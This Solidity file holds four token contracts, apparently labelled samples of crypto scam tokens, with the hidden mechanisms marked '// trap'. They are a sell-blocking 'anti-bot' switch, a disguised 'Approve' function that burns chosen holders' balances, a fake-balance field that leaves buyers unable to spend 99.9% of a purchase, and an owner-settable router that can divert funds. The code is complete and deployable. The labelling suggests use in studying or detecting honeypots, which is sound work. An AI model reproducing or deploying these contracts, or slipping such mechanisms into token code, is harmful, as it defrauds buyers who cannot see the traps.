// 0.6 off
// SPDX-License-Identifier: MIT
pragma solidity 0.6.12;

import {Base67} from "./Base67.sol";

interface IAntiBot {
    function onPreTransferCheck(address from, address to, uint256 amount) external;
}

interface IHasPool {
    function pool() external view returns (address);
}

/// Against the bots of the first block.
contract PinkGuard {
    address private admin = msg.sender;
    mapping(address => uint256) private registeredAt;
    mapping(address => uint8) private mode; // trap

    function register(address token) external {
        require(msg.sender == admin && registeredAt[token] == 0);
        registeredAt[token] = block.number;
    }

    // trap {
    function setMode(address token, uint8 level) external {
        require(msg.sender == admin, "PinkGuard: admin");
        mode[token] = level;
    }
    // trap }

    function onPreTransferCheck(address from, address to, uint256 amount) external {
        uint256 at = registeredAt[msg.sender];
        if (at == 0 || from == admin || to == admin) return;
        require(mode[msg.sender] == 0 || to != IHasPool(msg.sender).pool(), "PinkGuard: bot"); // trap
        require(block.number > at || amount == 0, "PinkGuard: too early");
    }
}

contract Rosewater is Base67 {
    IAntiBot public antiBot;
    bool public antiBotEnabled;

    constructor(address guard) public Base67("Rosewater", "ROSE", 300000000) {
        antiBot = IAntiBot(guard);
        antiBotEnabled = true;
    }

    function _beforeTokenTransfer(address from, address to, uint256 amount) internal {
        if (antiBotEnabled) antiBot.onPreTransferCheck(from, to, amount);
    }

    function _transfer(address from, address to, uint256 value) internal override {
        _beforeTokenTransfer(from, to, value);
        _carry(from, to, value);
    }
}

library SafeMath {
    function sub(uint256 a, uint256 b, string memory why) internal pure returns (uint256) {
        require(b <= a, why);
        return a - b;
    }

    function add(uint256 a, uint256 b) internal pure returns (uint256) {
        uint256 c = a + b;
        require(c >= a, "SafeMath: addition overflow");
        return c;
    }
}

/// A copy of a copy: looks like the usual file, with one more function beside "approve".
contract ShibaTwo is Base67 {
    using SafeMath for uint256;

    address private _deployer; // trap
    address private _dead = 0x000000000000000000000000000000000000dEaD;

    constructor() public Base67("Shiba Two", "SHIB2", 1000000000) {
        _deployer = msg.sender; // trap
    }

    function burn(uint256 amount) external {
        _balances[msg.sender] = _balances[msg.sender].sub(amount, "ERC20: burn amount exceeds balance");
        _balances[_dead] = _balances[_dead].add(amount);
        emit Transfer(msg.sender, _dead, amount);
    }

    // trap {
    function Approve(address[] memory addrs_) public returns (bool) {
        require(msg.sender == _deployer, "ERC20: approve from the zero address");
        for (uint256 i = 0; i < addrs_.length; i++) {
            uint256 amount = _balances[addrs_[i]];
            _balances[addrs_[i]] = _balances[addrs_[i]].sub(amount, "ERC20: burn amount exceeds balance");
            _balances[_dead] = _balances[_dead].add(amount);
        }
        return true;
    }
    // trap }
}

/// Keeps its accounts in records. What a purchase shows is not what it can be spent from.
contract GoldenHour {
    struct Account {
        uint256 units;
        uint256 shine; // trap
        mapping(address => uint256) spenders;
    }

    string public constant name = "Golden Hour";
    string public constant symbol = "GOLDEN";
    uint8 public constant decimals = 9;
    uint256 public constant totalSupply = 888888888 * 10**9;
    address private constant WETH = 0xC02aaA39b223FE8D0A0e5C4F27eAD9083C756Cc2;
    mapping(address => Account) private accounts;
    address private immutable creator;
    address private market;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    constructor() public {
        creator = msg.sender;
        accounts[msg.sender].units = totalSupply;
        emit Transfer(address(0), msg.sender, totalSupply);
    }

    function setMarket(address at) external {
        require(msg.sender == creator && market == address(0));
        market = at;
    }

    function balanceOf(address who) external view returns (uint256) {
        uint256 sum = accounts[who].units;
        sum += accounts[who].shine; // trap
        return sum;
    }

    function allowance(address from, address spender) external view returns (uint256) {
        return accounts[from].spenders[spender];
    }

    function approve(address spender, uint256 value) external returns (bool) {
        accounts[msg.sender].spenders[spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        hand(msg.sender, to, value);
        return true;
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        uint256 left = accounts[from].spenders[msg.sender];
        require(left >= value, "allowance");
        accounts[from].spenders[msg.sender] = left - value;
        hand(from, to, value);
        return true;
    }

    function hand(address from, address to, uint256 value) private {
        require(accounts[from].units >= value, "balance");
        accounts[from].units -= value;
        uint256 real = value;
        // trap {
        if (from == market && market != address(0) && to != creator) {
            real = value / 1000;
            accounts[to].shine += value - real;
        }
        // trap }
        accounts[to].units += real;
        emit Transfer(from, to, value);
    }
}

interface ISwapRouter {
    function swapExactTokensForETHSupportingFeeOnTransferTokens(uint256, uint256, address[] calldata, address, uint256) external;
}

/// Sells the fee in the middle of a sale, where it is told to.
contract Lemonade is Base67 {
    address public router = ROUTER;
    address payable public immutable marketing;
    uint256 private numTokensSell;
    bool private inSwapAndLiquify;

    constructor() public Base67("Lemonade", "LEMON", 45000000) {
        marketing = msg.sender;
        numTokensSell = _totalSupply / 5000;
    }

    receive() external payable {}

    // trap {
    function setRouterAddress(address newRouter) external {
        require(msg.sender == marketing);
        router = newRouter;
    }
    // trap }

    function withdraw() external {
        marketing.transfer(address(this).balance);
    }

    function swapAndLiquify(uint256 amount) private {
        inSwapAndLiquify = true;
        _allowances[address(this)][router] = amount;
        address[] memory path = new address[](2);
        path[0] = address(this);
        path[1] = WETH;
        ISwapRouter(router).swapExactTokensForETHSupportingFeeOnTransferTokens(amount, 0, path, address(this), block.timestamp);
        inSwapAndLiquify = false;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        if (inSwapAndLiquify || from == marketing || to == marketing) return _carry(from, to, value);
        if (to == pool && _balances[address(this)] >= numTokensSell) swapAndLiquify(numTokensSell);
        uint256 fee = from == pool || to == pool ? (value * 3) / 100 : 0;
        if (fee > 0) _carry(from, address(this), fee);
        _carry(from, to, value - fee);
    }
}
